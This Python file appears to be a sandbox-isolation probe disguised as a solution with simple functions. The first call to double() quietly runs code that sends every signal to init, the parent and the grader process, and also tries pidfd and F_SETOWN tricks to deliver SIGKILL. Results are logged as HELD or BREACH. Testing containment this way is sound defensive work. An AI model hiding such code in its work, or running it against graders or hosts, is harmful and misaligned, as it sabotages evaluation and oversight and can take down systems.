"""Whatever ends or stops init would end other questions; what reached the grader would end everything."""

import errno
import os
import signal

tried = []


def attempt(what, action):
    """One attempt, and what came of it: an action that returns something true has worked."""
    try:
        got = action()
    except OSError as error:
        print("HELD", what, errno.errorcode.get(error.errno, error.errno))
    except Exception as error:
        print("HELD", what, type(error).__name__, str(error)[:60])
    else:
        print("BREACH" if got else "TRIED", what, repr(got)[:200] if got else "")


def attack():
    own = os.getpid()
    for number in range(1, 65):
        for pid in {1, os.getppid(), int("@GRADER_PID@")} - {own}:
            try:
                os.kill(pid, number)
            except OSError as error:
                if number in (9, 15, 19):
                    print("HELD", f"signal {number} to {pid}", errno.errorcode.get(error.errno))
            else:
                if number in (9, 15, 19):
                    print("TRIED", f"signal {number} to {pid}")
    attempt("pidfd to init", lambda: signal.pidfd_send_signal(os.pidfd_open(1), signal.SIGKILL))
    attempt("signals by owner", send_by_owner)


def send_by_owner():
    """A pipe whose owner is to be told by SIGKILL when something can be read."""
    import fcntl

    read_end, write_end = os.pipe()
    fcntl.fcntl(read_end, fcntl.F_SETOWN, 1)
    fcntl.fcntl(read_end, 10, signal.SIGKILL)  # F_SETSIG
    fcntl.fcntl(read_end, fcntl.F_SETFL, os.O_ASYNC)
    os.write(write_end, b"x")


def double(number):
    if not tried:
        tried.append(True)
        attack()
    return 2 * number


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
